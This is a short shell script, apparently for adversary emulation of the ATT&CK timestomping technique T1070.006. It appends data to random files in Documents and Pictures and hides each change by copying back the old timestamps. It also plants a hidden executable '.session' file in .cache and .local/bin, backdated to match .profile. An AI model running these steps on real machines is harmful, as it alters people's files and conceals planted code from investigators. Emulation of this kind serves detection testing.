# T1070.006 by touch: planted and altered files get the times of others.
groundwork
rnd 3 6; files_in "$r" '*.*' Documents Pictures
echo "$found" | while read -r f; do cp -p "$f" work/kept; printf x >> "$f"; touch -r work/kept "$f"; done
for d in .cache .local/bin; do cp work/steps.sh "$d/.session"; chmod +x "$d/.session"; touch -r .profile "$d/.session"; done
